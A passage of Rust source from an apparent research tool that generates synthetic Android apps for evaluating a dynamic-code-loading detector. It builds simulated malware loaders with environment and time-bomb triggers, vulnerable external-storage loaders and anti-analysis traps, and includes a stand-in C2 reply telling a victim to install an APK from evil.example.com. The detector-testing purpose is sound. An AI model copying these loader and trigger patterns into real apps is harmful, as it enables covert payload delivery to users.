        let staged = format!("/data/data/{pkg}/files/update.jar");
        let odex = format!("/data/data/{pkg}/odex");
        let loader_cls = format!("{}.{}", names::BAIDU_SDK, namer.class("RemoteLoader"));
        let init_name = namer.member("fetchAndLoad");
        let c = b.class(&loader_cls, "java.lang.Object");
        let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(12);
        emit::download_to_file(m, &url, &staged);
        emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
        m.ret_void();
        inits.push(LoaderInit::Static(loader_cls, init_name));
    }

    // ------------------------------------------------------------------
    // Malware loaders (Tables VII/VIII).
    // ------------------------------------------------------------------
    if let Some((family, triggers)) = &plan.malware {
        let loader_cls = format!("com.adsdk.bundle.{}", namer.class("PayloadManager"));
        let init_name = namer.member("checkUpdates");
        let mut drop_methods: Vec<String> = Vec::new();
        {
            let c = b.class(&loader_cls, "java.lang.Object");
            for (i, trigger) in triggers.iter().enumerate() {
                let method = format!("dropFile{i}");
                let m = c.method(&method, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
                m.registers(12);
                let skip = emit::trigger_guard(m, trigger);
                match family {
                    MalwareFamily::SwissCodeMonkeys => {
                        // The family's C2 must answer the command fetch.
                        remote.push((
                            "swiss-c2.example.com".to_string(),
                            "/cmd".to_string(),
                            b"install_app http://evil.example.com/extra.apk".to_vec(),
                        ));
                        let (payload, entry) = emit::swiss_payload(hash + i);
                        let asset = format!("mal{i}.bin");
                        let staged = format!("/data/data/{pkg}/cache/mal{i}.dex");
                        assets.push((asset.clone(), payload.to_bytes()));
                        emit::stage_asset(m, &asset, &staged);
                        emit::dex_load_and_run(
                            m,
                            &staged,
                            &format!("/data/data/{pkg}/odex"),
                            &entry,
                            "run",
                        );
                    }
                    MalwareFamily::AirpushMinimob => {
                        let (payload, entry) = emit::airpush_payload(hash + i);
                        let asset = format!("mal{i}.bin");
                        let staged = format!("/data/data/{pkg}/cache/mal{i}.dex");
                        assets.push((asset.clone(), payload.to_bytes()));
                        emit::stage_asset(m, &asset, &staged);
                        emit::dex_load_and_run(
                            m,
                            &staged,
                            &format!("/data/data/{pkg}/odex"),
                            &entry,
                            "run",
                        );
                    }
                    MalwareFamily::ChathookPtrace => {
                        let soname = format!("libchathook{i}.so");
                        let lib = emit::chathook_payload(&soname, hash + i);
                        libs.push((soname.clone(), lib.to_bytes()));
                        emit::load_library(m, &format!("chathook{i}"));
                    }
                }
                m.bind(skip);
                m.ret_void();
                drop_methods.push(method);
            }
            let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(4);
            for method in &drop_methods {
                m.invoke_static(MethodRef::new(&loader_cls, method, "()V"), vec![]);
            }
            m.ret_void();
        }
        inits.push(LoaderInit::Static(loader_cls, init_name));
    }

    // ------------------------------------------------------------------
    // Vulnerable loaders (Table IX).
    // ------------------------------------------------------------------
    match &plan.vuln {
        Some(VulnPlan::DexExternal) => {
            let payload_cls = format!("{pkg}.ext.Module");
            let payload = emit::trivial_payload(&payload_cls);
            let asset = "ext0.bin".to_string();
            let staged = format!("/mnt/sdcard/im_sdk/jar/{pkg}.jar");
            let odex = format!("/data/data/{pkg}/odex");
            assets.push((asset.clone(), payload.to_bytes()));
            let method = namer.member("loadFromSdcard");
            own_methods.push((
                method.clone(),
                Box::new(move |m: &mut MethodBuilder| {
                    emit::stage_asset(m, &asset, &staged);
                    emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
                }),
            ));
            inits.push(LoaderInit::OwnMethod(method));
        }
        Some(VulnPlan::NativeForeign { provider, soname }) => {
            let path = format!("/data/data/{provider}/files/{soname}");
            let libname = soname
                .trim_start_matches("lib")
                .trim_end_matches(".so")
                .to_string();
            device_files.push((
                path.clone(),
                provider.clone(),
                emit::trivial_native(&format!("lib{libname}.so")).to_bytes(),
            ));
            let method = namer.member("attachSharedEngine");
            own_methods.push((
                method.clone(),
                Box::new(move |m: &mut MethodBuilder| {
                    emit::load_path(m, &path);
                }),
            ));
            inits.push(LoaderInit::OwnMethod(method));
        }
        None => {}
    }

    // ------------------------------------------------------------------
    // Native DCL loaders (generic).
    // ------------------------------------------------------------------
    if let Some(native_plan) = &plan.native {
        let is_special = plan
            .malware
            .as_ref()
            .map(|(f, _)| f.is_native())
            .unwrap_or(false)
            || matches!(plan.vuln, Some(VulnPlan::NativeForeign { .. }));
        if !is_special {
            if native_plan.reachable {
                if matches!(
                    native_plan.entity,
                    EntityPlan::ThirdParty | EntityPlan::Both
                ) {
                    let vendor = names::sdk_vendor(hash + 2);
                    let loader_cls = format!("{vendor}.{}", namer.class("NativeBridge"));
                    let init_name = namer.member("attach");
                    let soname = "libengine.so";
                    libs.push((soname.to_string(), emit::trivial_native(soname).to_bytes()));
                    let c = b.class(&loader_cls, "java.lang.Object");
                    let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
                    m.registers(8);
                    emit::load_library(m, "engine");
                    m.ret_void();
                    inits.push(LoaderInit::Static(loader_cls, init_name));
                }
                if matches!(native_plan.entity, EntityPlan::Own | EntityPlan::Both) {
                    let soname = "libowncore.so";
                    libs.push((soname.to_string(), emit::trivial_native(soname).to_bytes()));
                    let method = namer.member("initNativeCore");
                    own_methods.push((
                        method.clone(),
                        Box::new(move |m: &mut MethodBuilder| {
                            emit::load_library(m, "owncore");
                        }),
                    ));
                    inits.push(LoaderInit::OwnMethod(method));
                }
            } else {
                // Dead native-load code (bundled lib, never invoked).
                let soname = "libghost.so";
                libs.push((soname.to_string(), emit::trivial_native(soname).to_bytes()));
                let method = namer.member("unusedNativeInit");
                own_methods.push((
                    method,
                    Box::new(move |m: &mut MethodBuilder| {
                        emit::load_library(m, "ghost");
                    }),
                ));
                // Deliberately NOT added to `inits`.
            }
        }
    }

    // ------------------------------------------------------------------
    // Reflection marker.
    // ------------------------------------------------------------------
    let helper_name = namer.member("refreshContent");
    if plan.reflection {
        let method = namer.member("dispatchDynamic");
        let main_cls_clone = main_cls.clone();
        let helper_clone = helper_name.clone();
        own_methods.push((
            method.clone(),
            Box::new(move |m: &mut MethodBuilder| {
                emit::reflection_usage(m, &main_cls_clone, &helper_clone);
            }),
        ));
        inits.push(LoaderInit::OwnMethod(method));
    }

    // ------------------------------------------------------------------
    // The main activity.
    // ------------------------------------------------------------------
    let callback_name = if plan.lexical {
        format!("on{}", namer.member("x").to_uppercase())
    } else {
        "onClickRefresh".to_string()
    };
    {
        let c = b.class(&main_cls, "android.app.Activity");
        c.default_constructor();
        // Public helper invoked reflectively and by the UI callback.
        let m = c.method(&helper_name, "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 1);
        m.ret_void();
        // The fuzzable UI callback.
        let m = c.method(&callback_name, "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 2);
        m.ret_void();
        // Own loader methods.
        for (name, body) in own_methods {
            let m = c.method(&name, "()V", AccessFlags::PUBLIC);
            m.registers(12);
            body(m);
            m.ret_void();
        }
        // onCreate: crash, or run every loader init.
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(12);
        if plan.crash_on_launch {
            m.const_str(1, "NullPointerException: developer bug in onCreate");
            m.throw(1);
        } else {
            for init in &inits {
                match init {
                    LoaderInit::Static(cls, method) => {
                        m.invoke_static(MethodRef::new(cls, method, "()V"), vec![]);
                    }
                    LoaderInit::OwnMethod(method) => {
                        m.invoke_virtual(MethodRef::new(&main_cls, method, "()V"), vec![0]);
                    }
                }
            }
            m.ret_void();
        }
    }

    // Anti-decompilation trap.
    if plan.anti_decompilation {
        let cls = format!("{pkg}.internal.{}", namer.class("Guard"));
        let c = b.class(&cls, "java.lang.Object");
        let m = c.method(namer.member("spin"), "()V", AccessFlags::PRIVATE);
        let head = m.label();
        m.bind(head);
        m.goto(head);
    }

    // ------------------------------------------------------------------
    // Manifest + archive.
    // ------------------------------------------------------------------
    let mut manifest = Manifest::new(pkg.clone());
    manifest.min_sdk = if matches!(plan.vuln, Some(VulnPlan::DexExternal)) {
        14
    } else {
        16
    };
    manifest.add_permission(INTERNET);
    if plan.has_write_external || matches!(plan.vuln, Some(VulnPlan::DexExternal)) {
        manifest.add_permission(WRITE_EXTERNAL_STORAGE);
    }
    if !plan.no_activity {
        manifest
            .components
            .push(Component::main_activity(&main_cls));
    }

    let mut apk = Apk::build(manifest, b.build());
    for (name, data) in assets {
        apk.put(format!("assets/{name}"), data);
    }
    for (soname, data) in libs {
        apk.put(format!("lib/armeabi/{soname}"), data);
    }
    if plan.anti_repackaging {
        apk.put(ANTI_REPACK_TRAP, vec![0x50, 0x4B]);
    }

    BuildOutput {
        apk: apk.to_bytes(),
        remote,
        device_files,
    }
}

fn build_packed(plan: &AppPlan) -> BuildOutput {
    let pkg = &plan.package;
    let real_main = format!("{pkg}.RealMain");
    let mut manifest = Manifest::new(pkg.clone());
    manifest.add_permission(INTERNET);
    if plan.has_write_external {
        manifest.add_permission(WRITE_EXTERNAL_STORAGE);
    }
    manifest
        .components
        .push(Component::main_activity(&real_main));

    let mut b = DexBuilder::new();
    {
        let c = b.class(&real_main, "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 1);
        m.ret_void();
        let m = c.method("onClickPlay", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 2);
        m.ret_void();
    }
    let apk = packer::pack_with_vendor(&manifest, &b.build(), &real_main, simple_hash(pkg));
    BuildOutput {
        apk: apk.to_bytes(),
        remote: Vec::new(),
        device_files: Vec::new(),
    }
}

fn simple_hash(s: &str) -> usize {
    s.bytes()
        .fold(7usize, |a, b| a.wrapping_mul(31).wrapping_add(b as usize))
        % 1_000
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::{DclPlan, PrivacyLeakPlan, TriggerSet};
    use crate::popularity::AppMetadata;
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_monkey::{Monkey, MonkeyConfig};

    fn base_plan(pkg: &str) -> AppPlan {
        AppPlan {
            package: pkg.to_string(),
            dex: None,
            native: None,
            lexical: false,
            reflection: false,
            packer: false,
            anti_decompilation: false,
            anti_repackaging: false,
            no_activity: false,
            crash_on_launch: false,
            has_write_external: true,
            google_ads: false,
            remote_fetch: false,
            malware: None,
            vuln: None,
            privacy: Vec::new(),
            metadata: AppMetadata {
                category: 0,
                downloads: 1000,
                rating_count: 10,
                avg_rating: 4.0,
            },
        }
    }

    fn run_app(out: &BuildOutput, pkg: &str) -> Device {
        let mut device = Device::new(DeviceConfig::default());
        for (domain, path, bytes) in &out.remote {
            device.net.host(domain, path, bytes.clone());
        }
        for (path, owner, bytes) in &out.device_files {
            device
                .fs
                .write_system(path, bytes.clone(), dydroid_avm::Owner::app(owner.clone()));
        }
        device.install(&out.apk).unwrap();
        let mut monkey = Monkey::new(MonkeyConfig::default());
        let outcome = monkey.exercise(&mut device, pkg).unwrap();
        assert!(
            outcome.is_clean(),
            "{pkg} should run clean: {:?}\nlog: {:?}",
            outcome,
            device.log.events()
        );
        device
    }

    #[test]
    fn plain_app_builds_and_runs() {
        let plan = base_plan("com.plain.app");
        let out = build_app(&plan);
        let device = run_app(&out, "com.plain.app");
        assert_eq!(device.log.dcl_events().count(), 0);
    }

    #[test]
    fn ads_app_loads_and_cleans_up() {
        let mut plan = base_plan("com.ads.game");
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plan.google_ads = true;
        let out = build_app(&plan);
        let device = run_app(&out, "com.ads.game");
        let dcl: Vec<_> = device.log.dcl_events().collect();
        assert_eq!(dcl.len(), 1);
        assert!(dcl[0].call_site_class.starts_with("com.google.ads"));
        // The temp file survived thanks to the interception hook.
        assert_eq!(device.hooks.intercepted().len(), 1);
        assert!(device.fs.exists(&device.hooks.intercepted()[0].path));
    }

    #[test]
    fn both_entity_app_has_two_call_sites() {
        let mut plan = base_plan("com.both.app");
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::Both,
        });
        plan.privacy.push(PrivacyLeakPlan {
            type_index: 1,
            exclusively_third_party: true,
        });
        plan.privacy.push(PrivacyLeakPlan {
            type_index: 0,
            exclusively_third_party: false,
        });
        let out = build_app(&plan);
        let device = run_app(&out, "com.both.app");
        let sites: std::collections::HashSet<String> = device
            .log
            .dcl_events()
            .map(|d| d.call_site_class.clone())
            .collect();
        assert_eq!(sites.len(), 2);
        assert!(sites.iter().any(|s| s.starts_with("com.both.app")));
        assert!(sites.iter().any(|s| !s.starts_with("com.both.app")));
    }

    #[test]
    fn dead_dcl_not_executed_but_present() {
        let mut plan = base_plan("com.dead.code");
        plan.dex = Some(DclPlan {
            reachable: false,
            entity: EntityPlan::ThirdParty,
        });
        plan.native = Some(DclPlan {
            reachable: false,
            entity: EntityPlan::ThirdParty,
        });
        let out = build_app(&plan);
        let device = run_app(&out, "com.dead.code");
        assert_eq!(device.log.dcl_events().count(), 0);
        // But the code exists for the static filter.
        let apk = Apk::parse(&out.apk).unwrap();
        let filter = dydroid_analysis::DclFilter::scan(&apk.classes().unwrap());
        assert!(filter.has_dex_dcl);
        assert!(filter.has_native_dcl);
    }

    #[test]
    fn remote_fetch_app_is_remote() {
        let mut plan = base_plan("com.fetch.app");
        plan.remote_fetch = true;
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        let out = build_app(&plan);
        assert_eq!(out.remote.len(), 1);
        let device = run_app(&out, "com.fetch.app");
        let dcl: Vec<_> = device.log.dcl_events().collect();
        assert_eq!(dcl.len(), 1);
        assert!(device.hooks.flow.is_remote(&dcl[0].path));
        assert!(dcl[0].call_site_class.starts_with(names::BAIDU_SDK));
    }

    #[test]
    fn chathook_app_ptraces() {
        let mut plan = base_plan("com.game.chat");
        plan.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plan.malware = Some((MalwareFamily::ChathookPtrace, vec![TriggerSet::none()]));
        let out = build_app(&plan);
        let device = run_app(&out, "com.game.chat");
        assert!(device
            .log
            .behaviors("com.game.chat")
            .any(|b| matches!(b, dydroid_avm::BehaviorEvent::PtraceAttach { .. })));
        assert_eq!(device.log.dcl_events().count(), 1);
    }

    #[test]
    fn vulnerable_apps_load_risky_paths() {
        let mut plan = base_plan("com.vuln.sdcard");
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::Own,
        });
        plan.vuln = Some(VulnPlan::DexExternal);
        let out = build_app(&plan);
        let device = run_app(&out, "com.vuln.sdcard");
        let dcl: Vec<_> = device.log.dcl_events().collect();
        assert_eq!(dcl.len(), 1);
        assert!(dcl[0].path.starts_with("/mnt/sdcard/"));

        let mut plan = base_plan("com.vuln.foreign");
        plan.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::Own,
        });
        plan.vuln = Some(VulnPlan::NativeForeign {
            provider: "com.adobe.air".to_string(),
            soname: "libCore.so".to_string(),
        });
        let out = build_app(&plan);
        assert_eq!(out.device_files.len(), 1);
        let device = run_app(&out, "com.vuln.foreign");
        let dcl: Vec<_> = device.log.dcl_events().collect();
        assert_eq!(dcl.len(), 1);
        assert_eq!(dcl[0].path, "/data/data/com.adobe.air/files/libCore.so");
    }

    #[test]
    fn crash_plan_crashes() {
        let mut plan = base_plan("com.buggy.app");
        plan.crash_on_launch = true;
        let out = build_app(&plan);
        let mut device = Device::new(DeviceConfig::default());
        device.install(&out.apk).unwrap();
        let mut monkey = Monkey::new(MonkeyConfig::default());
        let outcome = monkey.exercise(&mut device, "com.buggy.app").unwrap();
        assert!(!outcome.is_clean());
    }

    #[test]
    fn lexical_flag_changes_identifiers() {
        let mut plan = base_plan("com.obf.app");
        plan.lexical = true;
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        let out = build_app(&plan);
        let apk = Apk::parse(&out.apk).unwrap();
        assert!(dydroid_analysis::obfuscation::detect_lexical(
            &apk.classes().unwrap()
        ));
        let mut plan2 = base_plan("com.clear.app");
        plan2.dex = plan.dex;
        let out2 = build_app(&plan2);
        let apk2 = Apk::parse(&out2.apk).unwrap();
        assert!(!dydroid_analysis::obfuscation::detect_lexical(
            &apk2.classes().unwrap()
        ));
        // Lexical app still runs.
        run_app(&out, "com.obf.app");
    }

    #[test]
    fn reflection_flag_detected_and_runs() {
        let mut plan = base_plan("com.refl.app");
        plan.reflection = true;
        let out = build_app(&plan);
        let apk = Apk::parse(&out.apk).unwrap();
        assert!(dydroid_analysis::obfuscation::detect_reflection(
            &apk.classes().unwrap()
        ));
        run_app(&out, "com.refl.app");
    }

    #[test]
    fn packed_plan_builds_runnable_packed_app() {
        let mut plan = base_plan("com.packed.app");
        plan.packer = true;
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::Own,
        });
        let out = build_app(&plan);
        let decompiled = dydroid_analysis::decompiler::decompile(&out.apk).unwrap();
        assert!(dydroid_analysis::obfuscation::detect_dex_encryption(
            &decompiled
        ));
        run_app(&out, "com.packed.app");
    }

    #[test]
    fn time_bomb_malware_hides_before_release() {
        let mut plan = base_plan("com.bomb.app");
        plan.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plan.malware = Some((
            MalwareFamily::AirpushMinimob,
            vec![TriggerSet {
                time_bomb: true,
                ..TriggerSet::none()
            }],
        ));
        let out = build_app(&plan);
        // After release: loads.
        let device = run_app(&out, "com.bomb.app");
        assert_eq!(device.log.dcl_events().count(), 1);
        // Before release: hidden.
        let config = DeviceConfig {
            time_ms: emit::RELEASE_MS - 1,
            ..Default::default()
        };
        let mut device = Device::new(config);
        device.install(&out.apk).unwrap();
        let mut monkey = Monkey::new(MonkeyConfig::default());
        monkey.exercise(&mut device, "com.bomb.app").unwrap();
        assert_eq!(device.log.dcl_events().count(), 0);
    }
}
