//! # dydroid-workload
//!
//! The synthetic Google-Play corpus generator. The paper measures 58,739
//! crawled apps; this crate regenerates a population with the same
//! *composition* — every behaviour class the measurement distinguishes is
//! represented by real, runnable APKs:
//!
//! - plain apps and apps with (reachable or dead) DEX/native DCL code;
//! - ad-SDK staging with temporary files (the `cache/ad*` pattern);
//! - Baidu-style **remote-fetch** SDKs with hosted payloads (Table V);
//! - three **malware families** with environment-trigger guards
//!   (Tables VII, VIII): Swiss code monkeys, Adware airpush minimob,
//!   Chathook ptrace;
//! - Bangcle/Ijiami-style **packers** (Table VI, Figure 3);
//! - **vulnerable** loaders: external storage and other apps' internal
//!   storage (Table IX);
//! - **privacy-leaking** SDK payloads across the 18 data types (Table X);
//! - decompiler/repackager **countermeasures** (anti-decompilation,
//!   anti-repackaging) and launch-time crashes (Table II);
//! - correlated **popularity metadata** (Table III) and the 42 Play
//!   categories (Figure 3).
//!
//! Rates default to the paper’s measured values ([`spec::paper`])
//! scaled by [`CorpusSpec::scale`]; generation is fully deterministic in
//! the seed. Every [`SyntheticApp`] carries its ground-truth [`AppPlan`]
//! so detector accuracy is testable.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod categories;
pub mod corpus;
pub mod emit;
pub mod factory;
pub mod faults;
pub mod names;
pub mod packer;
pub mod plan;
pub mod popularity;
pub mod spec;

pub use corpus::{generate, SyntheticApp};
pub use faults::{FaultKind, FaultPlan, FaultSpec, IoFaultKind, IoFaultScript, IoFaultSpec};
pub use plan::{AppPlan, DclPlan, EntityPlan, MalwareFamily, TriggerSet, VulnPlan};
pub use popularity::AppMetadata;
pub use spec::CorpusSpec;
