//! Popularity metadata generation (Table III).
//!
//! Downloads are drawn from an exponential distribution whose mean depends
//! on DCL presence, reproducing the paper's ordering: apps with DCL are
//! more popular than the complement, and native-DCL apps dramatically so
//! (big games and engines bundle native code). Rating counts correlate
//! with downloads; average ratings get a small positive DCL shift.

use rand::Rng;
use serde::{Deserialize, Serialize};

/// Play-store metadata attached to each synthetic app.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AppMetadata {
    /// Category index into [`crate::categories::CATEGORIES`].
    pub category: usize,
    /// Number of downloads.
    pub downloads: u64,
    /// Number of ratings.
    pub rating_count: u64,
    /// Average rating in `[1, 5]`.
    pub avg_rating: f64,
}

/// Mean downloads for an app without any DCL.
const BASE_MEAN_DOWNLOADS: f64 = 40_000.0;
/// Multiplier when the app carries DEX-DCL code.
const DEX_FACTOR: f64 = 1.20;
/// Multiplier when the app carries native-DCL code.
const NATIVE_FACTOR: f64 = 4.2;

/// Samples metadata for an app.
pub fn sample_metadata<R: Rng>(
    rng: &mut R,
    category: usize,
    has_dex: bool,
    has_native: bool,
) -> AppMetadata {
    let mut mean = BASE_MEAN_DOWNLOADS;
    if has_dex {
        mean *= DEX_FACTOR;
    }
    if has_native {
        mean *= NATIVE_FACTOR;
    }
    // Exponential via inverse transform.
    let u: f64 = rng.gen_range(1e-9..1.0f64);
    let downloads = (-u.ln() * mean).round().max(10.0) as u64;
    // Ratings track downloads at roughly 1:30 with noise.
    let ratio: f64 = rng.gen_range(20.0..45.0);
    let rating_count = ((downloads as f64) / ratio).round().max(1.0) as u64;
    let mut avg = 3.77
        + f64::from(u8::from(has_dex)) * 0.14
        + f64::from(u8::from(has_native)) * 0.04
        + rng.gen_range(-0.35..0.35);
    avg = avg.clamp(1.0, 5.0);
    AppMetadata {
        category,
        downloads,
        rating_count,
        avg_rating: (avg * 100.0).round() / 100.0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    fn mean_of(has_dex: bool, has_native: bool, n: usize) -> (f64, f64, f64) {
        let mut rng = ChaCha8Rng::seed_from_u64(7);
        let mut d = 0f64;
        let mut rc = 0f64;
        let mut r = 0f64;
        for _ in 0..n {
            let m = sample_metadata(&mut rng, 0, has_dex, has_native);
            d += m.downloads as f64;
            rc += m.rating_count as f64;
            r += m.avg_rating;
        }
        (d / n as f64, rc / n as f64, r / n as f64)
    }

    #[test]
    fn dcl_apps_more_popular() {
        let n = 20_000;
        let (d_plain, rc_plain, r_plain) = mean_of(false, false, n);
        let (d_dex, rc_dex, r_dex) = mean_of(true, false, n);
        let (d_native, _, _) = mean_of(false, true, n);
        assert!(d_dex > d_plain, "{d_dex} vs {d_plain}");
        assert!(rc_dex > rc_plain);
        assert!(r_dex > r_plain);
        // Native apps are dramatically more popular (Table III's 288,995
        // vs 75,127 ≈ 3.8×).
        assert!(d_native > 3.0 * d_plain, "{d_native} vs {d_plain}");
    }

    #[test]
    fn rating_bounds() {
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        for _ in 0..1_000 {
            let m = sample_metadata(&mut rng, 3, true, true);
            assert!((1.0..=5.0).contains(&m.avg_rating));
            assert!(m.downloads >= 10);
            assert!(m.rating_count >= 1);
            assert_eq!(m.category, 3);
        }
    }
}
