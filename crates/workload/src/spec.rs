//! Corpus specification: the paper's measured rates plus a scale factor.

use serde::{Deserialize, Serialize};

/// The paper's measured population parameters (58,739 apps, Nov 2016).
/// Counts are at full scale; probabilities are scale-free. Rates derived
/// from Tables II–X are annotated with their source.
pub mod paper {
    /// Total crawled apps.
    pub const TOTAL_APPS: usize = 58_739;
    /// Apps that crash the decompiler (anti-decompilation; Table VI).
    pub const ANTI_DECOMPILATION: usize = 54;
    /// Apps packed with DEX encryption (Table VI).
    pub const DEX_ENCRYPTION: usize = 140;
    /// Apps fetching and executing remote code (Table V).
    pub const REMOTE_FETCH: usize = 27;
    /// Apps loading the Swiss-code-monkeys DEX malware (Table VII).
    pub const MALWARE_SWISS: usize = 1;
    /// Apps loading Adware-airpush-minimob DEX malware (Table VII).
    pub const MALWARE_AIRPUSH: usize = 2;
    /// Apps loading Chathook-ptrace native malware (Table VII).
    pub const MALWARE_CHATHOOK: usize = 84;
    /// Vulnerable: DEX from external storage (Table IX).
    pub const VULN_DEX_EXTERNAL: usize = 7;
    /// Vulnerable: native code from other apps' internal storage (Table IX).
    pub const VULN_NATIVE_FOREIGN: usize = 7;
    /// DEX-DCL no-activity apps (Table II).
    pub const NO_ACTIVITY_DEX: usize = 8;
    /// Native-DCL no-activity apps (Table II).
    pub const NO_ACTIVITY_NATIVE: usize = 13;
    /// DEX-DCL apps that crash at runtime (Table II).
    pub const CRASH_DEX: usize = 33;
    /// Native-DCL apps that crash at runtime (Table II).
    pub const CRASH_NATIVE: usize = 184;
    /// DEX-DCL apps whose rewriting fails (Table II).
    pub const REWRITE_FAIL_DEX: usize = 454;
    /// Native-DCL apps whose rewriting fails (Table II).
    pub const REWRITE_FAIL_NATIVE: usize = 133;

    /// P(app has DEX-DCL code) — 40,849 / 58,739 (Section V-A).
    pub const P_DEX_CODE: f64 = 40_849.0 / 58_739.0;
    /// P(app has native-DCL code | has DEX-DCL) — overlap solved from
    /// |union| ≈ 46,000.
    pub const P_NATIVE_GIVEN_DEX: f64 = 20_136.0 / 40_849.0;
    /// P(app has native-DCL code | no DEX-DCL).
    pub const P_NATIVE_GIVEN_NO_DEX: f64 = 5_151.0 / 17_890.0;
    /// P(DEX DCL actually executes under the Monkey) — Table II, 41.05%.
    pub const P_DEX_REACHABLE: f64 = 0.4105;
    /// P(native DCL actually executes under the Monkey) — Table II, 54.37%.
    pub const P_NATIVE_REACHABLE: f64 = 0.5437;
    /// P(lexical obfuscation) — Table VI, 89.95%.
    pub const P_LEXICAL: f64 = 0.8995;
    /// P(reflection usage) — Table VI, 52.20%.
    pub const P_REFLECTION: f64 = 0.5220;
    /// Of intercepted-DEX apps, the share loading the Google-Ads-like
    /// library (settings-only reader): 15,012 / 16,768 (Section V-B-f).
    pub const P_GOOGLE_ADS: f64 = 15_012.0 / 16_768.0;

    /// DEX entity plan (Table IV): P(own-only), P(own-and-third-party).
    pub const P_DEX_OWN_ONLY: f64 = 13.0 / 16_768.0;
    /// DEX both entities.
    pub const P_DEX_BOTH: f64 = 37.0 / 16_768.0;
    /// Native own-only (Table IV: own 2,280 incl. both 366).
    pub const P_NATIVE_OWN_ONLY: f64 = 1_914.0 / 13_748.0;
    /// Native both entities.
    pub const P_NATIVE_BOTH: f64 = 366.0 / 13_748.0;

    /// Privacy-leaking counts among the 1,756 non-ad intercepted-DEX apps
    /// (Table X). `(type index into PrivacyType::ALL, apps, exclusively
    /// third-party apps)`.
    pub const PRIVACY_COUNTS: [(usize, usize, usize); 18] = [
        (0, 254, 251),      // Location
        (1, 581, 576),      // IMEI
        (2, 27, 25),        // IMSI
        (3, 8, 6),          // ICCID
        (4, 12, 10),        // Phone number
        (5, 23, 23),        // Account
        (6, 32, 28),        // Installed applications
        (7, 235, 231),      // Installed packages
        (8, 1, 1),          // Contact
        (9, 76, 73),        // Calendar
        (10, 32, 32),       // CallLog
        (11, 1, 1),         // Browser
        (12, 5, 5),         // Audio
        (13, 74, 72),       // Image
        (14, 31, 31),       // Video
        (15, 1_470, 1_429), // Settings (non-ad portion of 16,482/16,441)
        (16, 1, 1),         // MMS
        (17, 1, 1),         // SMS
    ];
    /// The non-ad intercepted-DEX population the privacy counts live in.
    pub const PRIVACY_POPULATION: usize = 1_756;

    /// Trigger-set shares over the 91 malicious files (Table VIII):
    /// fraction hidden under each configuration.
    pub const MALICIOUS_FILES: usize = 91;
    /// Files hidden when the system time predates release: 91 − 72.
    pub const HIDDEN_BY_TIME: usize = 19;
    /// Files hidden under airplane mode even with WiFi on: 91 − 56.
    pub const HIDDEN_BY_AIRPLANE: usize = 35;
    /// Files hidden only when fully offline: (91 − 53) − 35.
    pub const HIDDEN_BY_OFFLINE_EXTRA: usize = 3;
    /// Files hidden when location is off: 91 − 70.
    pub const HIDDEN_BY_LOCATION: usize = 21;
}

/// The corpus specification. [`CorpusSpec::default`] reproduces the paper
/// population at 1/10 scale; adjust [`CorpusSpec::scale`] for other runs.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CorpusSpec {
    /// Scale factor relative to the paper's 58,739 apps.
    pub scale: f64,
    /// Master seed; the corpus is a pure function of `(spec, seed)`.
    pub seed: u64,
}

impl Default for CorpusSpec {
    fn default() -> Self {
        CorpusSpec {
            scale: 0.1,
            seed: 0x0D1D_501D,
        }
    }
}

impl CorpusSpec {
    /// A spec with the given scale and the default seed.
    pub fn with_scale(scale: f64) -> Self {
        CorpusSpec {
            scale,
            ..Default::default()
        }
    }

    /// Total apps at this scale.
    pub fn total_apps(&self) -> usize {
        self.scaled(paper::TOTAL_APPS)
    }

    /// Scales a full-scale count, keeping rare-but-present classes alive
    /// (anything non-zero stays at least 1).
    pub fn scaled(&self, full_count: usize) -> usize {
        if full_count == 0 {
            return 0;
        }
        (((full_count as f64) * self.scale).round() as usize).max(1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_scale_tenth() {
        let spec = CorpusSpec::default();
        assert_eq!(spec.total_apps(), 5_874);
        assert_eq!(spec.scaled(paper::REMOTE_FETCH), 3);
        // Rare classes stay represented.
        assert_eq!(spec.scaled(paper::MALWARE_SWISS), 1);
        assert_eq!(spec.scaled(0), 0);
    }

    #[test]
    fn full_scale_identity() {
        let spec = CorpusSpec::with_scale(1.0);
        assert_eq!(spec.total_apps(), paper::TOTAL_APPS);
        assert_eq!(spec.scaled(paper::MALWARE_CHATHOOK), 84);
    }

    #[test]
    fn paper_rates_sane() {
        // Evaluated at runtime to keep the constants honest without
        // tripping the const-assertion lint.
        let checks = [
            paper::P_DEX_CODE > 0.69 && paper::P_DEX_CODE < 0.70,
            paper::P_DEX_REACHABLE > 0.4 && paper::P_DEX_REACHABLE < 0.42,
